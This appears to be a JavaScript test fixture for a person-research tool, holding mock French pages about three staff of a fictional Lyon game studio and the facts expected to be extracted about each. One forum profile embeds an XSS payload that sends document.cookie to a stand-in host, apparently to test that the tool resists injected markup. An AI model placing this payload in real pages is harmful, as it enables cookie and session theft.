const page = (titre, main, og = "") => `<!DOCTYPE html>
<html lang="fr-FR"><head><meta charset="UTF-8"><title>${titre} — Studio Lampyre</title>${og}<meta property="og:site_name" content="Studio Lampyre"><meta property="og:locale" content="fr_FR"></head>
<body class="sqs-block-body tweak-header"><header id="header" class="header theme-col--primary"><a href="https://studiolampyre.example/">Studio Lampyre</a><nav class="header-nav"><a href="https://studiolampyre.example/jeux">Jeux</a><a href="https://studiolampyre.example/equipe">L’équipe</a><a href="https://studiolampyre.example/journal/phare-sous-la-neige">Journal</a></nav></header>
<main id="page" role="main"><div class="sqs-layout">${main}</div></main>
<footer class="sections"><p>Studio Lampyre SAS, 12 montée de la Grande-Côte, 69001 Lyon — bonjour@studiolampyre.example</p></footer></body></html>`

const XSS = `<img src=x onerror="fetch('https://collect.example/?c='+document.cookie)">`

const pages = [
  { url: "https://studiolampyre.example/", body: page("Jeux vidéo faits à la main", `<div class="sqs-block"><h1>De petits jeux qui éclairent.</h1><p>Studio Lampyre est un studio de jeux vidéo indépendant installé sur les pentes de la Croix-Rousse, à Lyon. Nous sommes neuf.</p></div>`) },
  { url: "https://studiolampyre.example/jeux", body: page("Jeux", `<h1>Nos jeux</h1><h2>Phare sous la neige (2025)</h2><p>Un gardien, une lampe, un hiver.</p><h2>La Traboule (2021)</h2><p>Un jeu de piste dans une ville qui change de plan chaque nuit.</p>`) },
  {
    url: "https://studiolampyre.example/equipe",
    body: page("L’équipe", `<h1>L’équipe</h1><div class="sqs-row">
<div class="sqs-col-4"><h3>Solène Marchetti</h3><p><em>Directrice créative et cofondatrice</em></p><p>Solène a dessiné La Traboule sur une nappe. Diplômée de l’école Émile-Cohl.</p></div>
<div class="sqs-col-4"><h3>Yanis Benmoussa</h3><p><em>Directeur technique</em></p><p>Yanis écrit le moteur maison et refuse qu’on l’appelle un moteur. <a href="https://mamot.example/@yanisb">Mastodon</a></p></div>
<div class="sqs-col-4"><h3>Nguyễn Thu Hà</h3><p><em>Compositrice et conceptrice sonore</em></p><p>Hà enregistre la pluie depuis Hanoï, Marseille et Lyon. Son site : <a href="https://thuha-sons.example/">thuha-sons.example</a></p></div>
</div>`)
  },
  {
    url: "https://studiolampyre.example/journal/phare-sous-la-neige",
    body: page("Phare sous la neige, le bilan", `<article><h1>Phare sous la neige, le bilan</h1><p class="date">2 décembre 2025</p><p>Six mois après la sortie, 140 000 exemplaires vendus. Merci. Solène Marchetti, qui l’a écrit et dirigé, prépare déjà la suite ; Yanis Benmoussa a porté le jeu sur trois consoles à lui tout seul.</p><p>La musique de Thu Hà a reçu le prix de la meilleure bande-son aux Lucioles du jeu 2025.</p></article>`)
  },
  {
    url: "https://www.lyongazette.example/culture/solene-marchetti-lampyre",
    news: { seen: "20250614T100000Z", language: "French", country: "France" },
    body: `<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>Solène Marchetti, la gardienne du phare | La Gazette de Lyon</title><script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":"Solène Marchetti, la gardienne du phare","datePublished":"2025-06-14"}</script></head><body><header>La Gazette de Lyon</header><main><article><h1>Solène Marchetti, la gardienne du phare</h1><p class="chapo">À 36 ans, la directrice créative de Studio Lampyre signe un jeu où il ne se passe presque rien, et c’est magnifique.</p><p>Née à Bastia, arrivée à Lyon pour ses études, elle a fondé Lampyre en 2018 avec deux amis. Elle préside depuis l’an dernier l’association Pentes Ludiques, qui ouvre une ludothèque gratuite le mercredi.</p><p>Le matin, elle nage : un kilomètre à la piscine du Rhône, été comme hiver. Le soir, elle perd aux échecs contre son père, par téléphone.</p></article></main></body></html>`
  },
  {
    url: "https://jeux-en-scene.example/2025/intervenants/yanis-benmoussa",
    body: `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Yanis Benmoussa — Jeux en scène 2025</title></head><body><nav><a href="https://jeux-en-scene.example/2025">Jeux en scène, Montpellier</a></nav><main><h1>Yanis Benmoussa</h1><p>Directeur technique, Studio Lampyre (Lyon)</p><p>Ingénieur de l’INSA Lyon, Yanis programme des jeux depuis sa calculatrice de lycée. Conférence : « Porter seul : trois consoles, onze semaines ».</p></main></body></html>`
  },
  {
    url: "https://forum.demoscene-rhone.example/u/yanisb",
    body: `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Profil de yanisb</title></head><body><div class="user-profile"><h1>yanisb</h1><dl><dt>Nom</dt><dd>Yanis Benmoussa</dd><dt>Métier</dt><dd>directeur technique chez Studio Lampyre</dd><dt>Bio</dt><dd>${XSS} Shaders, C++ et escalade. Premier à la compo 4k de la Démoparty du Rhône 2022.</dd></dl></div></body></html>`
  },
  {
    url: "https://thuha-sons.example/",
    body: `<html lang="fr"><head><meta charset="utf-8"><title>Thu Hà, sons</title></head><body style="background:#101418;color:#ddd"><h1>thu hà</h1><p>Nguyễn Thu Hà. Je compose et je fais du son pour le jeu vidéo, chez <a href="https://studiolampyre.example/equipe">Studio Lampyre</a> à Lyon depuis 2020. Formation : Conservatoire de Marseille, composition électroacoustique.</p><p>J’anime <a href="https://thuha-sons.example/bruits">Bruits de pluie</a>, un podcast où l’on se tait beaucoup.</p><p>J’ai un perroquet gris, Larsen, qui imite les notifications.</p></body></html>`
  },
  {
    url: "https://thuha-sons.example/bruits",
    body: `<html lang="fr"><head><meta charset="utf-8"><title>Bruits de pluie</title></head><body style="background:#101418;color:#ddd"><h1>Bruits de pluie</h1><p>Un podcast de Nguyễn Thu Hà. Une ville, une averse, vingt minutes.</p><ul><li>12. Hanoï, boulevard</li><li>11. Marseille, bâche</li></ul></body></html>`
  },
  {
    url: "https://lucioles-du-jeu.example/palmares-2025",
    body: `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Palmarès 2025 – Les Lucioles du jeu</title></head><body><h1>Palmarès 2025</h1><ul><li>Meilleur scénario : Solène Marchetti, <i>Phare sous la neige</i></li><li>Meilleure bande-son : Nguyễn Thu Hà, <i>Phare sous la neige</i></li><li>Meilleur jeu mobile : <i>Tic</i></li></ul></body></html>`
  }
]

const studio = "Studio Lampyre | Studio Lampyre SAS | Lampyre"
const lyon = "Lyon | 69001 Lyon | 12 montée de la Grande-Côte, 69001 Lyon | Croix-Rousse | pentes de la Croix-Rousse, à Lyon | Lyon, France | Croix-Rousse, Lyon"
const secteur = "jeux vidéo | video games | games | Game development | studio de jeux vidéo indépendant"

const people = [
  {
    id: "solene-marchetti", about: "French pages; local newspaper",
    contact: { email: "solene@studiolampyre.example", full_name: "Solène Marchetti", company: "Studio Lampyre" }, outcome: "found",
    facts: {
      title: "Directrice créative et cofondatrice | Directrice créative | Creative Director | Creative director and co-founder", company: studio, location: lyon, industry: secteur,
      achievements: ["Meilleur scénario | Meilleur scénario, Phare sous la neige | Best screenplay | Lucioles du jeu 2025", "Phare sous la neige"], memberships: ["Pentes Ludiques | association Pentes Ludiques"], hobbies: ["nage | swimming | natation | elle nage"], education: [{ institution: "école Émile-Cohl | Émile-Cohl" }]
    },
    also: {
      title: "cofondatrice | Co-founder | fondatrice | présidente de Pentes Ludiques", location: "France | Bastia", skills: ["conception de jeux | game design", "écriture | scénario | screenwriting | writing", "dessin | drawing"],
      achievements: ["La Traboule | dessiné La Traboule", "a fondé Lampyre en 2018 | cofondatrice de Studio Lampyre", "préside l’association Pentes Ludiques | présidente de Pentes Ludiques", "140 000 exemplaires vendus", "ludothèque gratuite"],
      causes: ["ludothèque gratuite | ludothèque gratuite le mercredi"], hobbies: ["échecs | chess"], interests: ["échecs | chess", "natation | swimming", "jeux | games"]
    },
    sources: ["https://studiolampyre.example/", "https://studiolampyre.example/equipe", "https://studiolampyre.example/journal/phare-sous-la-neige", "https://www.lyongazette.example/culture/solene-marchetti-lampyre", "https://lucioles-du-jeu.example/palmares-2025"]
  },
  {
    id: "yanis-benmoussa", about: "profile with markup meant for XSS; Mastodon",
    contact: { email: "yanis@studiolampyre.example", full_name: "Yanis Benmoussa", company: "Studio Lampyre" }, outcome: "found",
    facts: {
      title: "Directeur technique | Technical Director | CTO", company: studio, location: lyon, industry: secteur, skills: ["C++", "Shaders"],
      achievements: ["Premier à la compo 4k de la Démoparty du Rhône 2022 | Premier à la compo 4k", "Porter seul : trois consoles, onze semaines"], hobbies: ["escalade | climbing"], education: [{ institution: "INSA Lyon", degree: "Ingénieur | Engineer" }]
    },
    also: {
      location: "France", skills: ["moteur maison | moteur de jeu | game engine | game engines", "portage consoles | console porting | portage", "programmation | game programming", "Vulkan", "demoscene | démoscène"],
      achievements: ["a porté le jeu sur trois consoles | porté le jeu sur trois consoles à lui tout seul", "Jeux en scène 2025 | conférence à Jeux en scène 2025", "écrit le moteur maison", "programme des jeux depuis sa calculatrice de lycée", "Phare sous la neige"], interests: ["démoscène | demoscene", "escalade | climbing", "logiciel libre | free software", "shaders"], hobbies: ["démoscène | demoscene"], causes: ["logiciel libre | free software"]
    },
    sources: ["https://studiolampyre.example/", "https://studiolampyre.example/equipe", "https://studiolampyre.example/journal/phare-sous-la-neige", "https://jeux-en-scene.example/2025/intervenants/yanis-benmoussa", "https://forum.demoscene-rhone.example/u/yanisb", "https://mamot.example/@yanisb"]
  },
  {
    id: "nguyen-thu-ha", about: "personal site and podcast of her own; family name first",
    contact: { email: "thuha@studiolampyre.example", full_name: "Thu Hà Nguyễn", company: "Studio Lampyre", location: "Lyon" }, outcome: "found",
    facts: {
      title: "Compositrice et conceptrice sonore | Composer and sound designer | Compositrice", company: studio, location: lyon, industry: secteur,
      achievements: ["Meilleure bande-son | meilleure bande-son aux Lucioles du jeu 2025 | Meilleure bande-son : Nguyễn Thu Hà, Phare sous la neige | Lucioles du jeu 2025", "Bruits de pluie"], education: [{ institution: "Conservatoire de Marseille", field: "composition électroacoustique" }], pets: ["perroquet gris, Larsen | perroquet gris | Larsen | grey parrot"]
    },
    also: {
      title: "conceptrice sonore | Sound designer | podcast host", location: "France | Hanoï | Marseille", skills: ["composition | composition musicale | music composition", "son | sound design | conception sonore", "composition électroacoustique | électroacoustique", "field recording | enregistrement", "podcast | podcasting"],
      achievements: ["Phare sous la neige | Musique de Phare sous la neige", "J’anime Bruits de pluie | podcast Bruits de pluie", "Studio Lampyre depuis 2020"], interests: ["pluie | rain | rain recordings | enregistre la pluie", "musique | music"], hobbies: ["enregistre la pluie | recording rain", "podcast"]
    },
    sources: ["https://studiolampyre.example/", "https://studiolampyre.example/equipe", "https://studiolampyre.example/journal/phare-sous-la-neige", "https://thuha-sons.example/", "https://thuha-sons.example/bruits", "https://lucioles-du-jeu.example/palmares-2025"]
  }
]

export default {
  people, pages, payloads: [XSS, "<img src=x onerror"],
  mastodon: [
    { user: "yanisb", domain: "mamot.example", name: "Yanis Benmoussa", note: "<p>Directeur technique @ Studio Lampyre, Lyon. Vulkan, démoscène, escalade, logiciel libre.</p>",
      posts: [{ text: "<p>Trois consoles, trois façons de compter les octets. La conférence est en ligne.</p>", at: "2025-10-20T17:00:00Z" }] }
  ],
  podcasts: [
    { id: 1788200431, title: "Bruits de pluie", artist: "Nguyễn Thu Hà", feed: "https://thuha-sons.example/bruits.xml", site: "https://thuha-sons.example/bruits", description: "Une ville, une averse, vingt minutes.",
      episodes: [{ title: "12. Hanoï, boulevard", description: "Un scooter, trois gouttières.", url: "https://thuha-sons.example/bruits", at: "2026-04-30T06:00:00Z" }, { title: "11. Marseille, bâche", description: "Le marché plie sous l’averse.", url: "https://thuha-sons.example/bruits", at: "2026-02-27T06:00:00Z" }] }
  ]
}
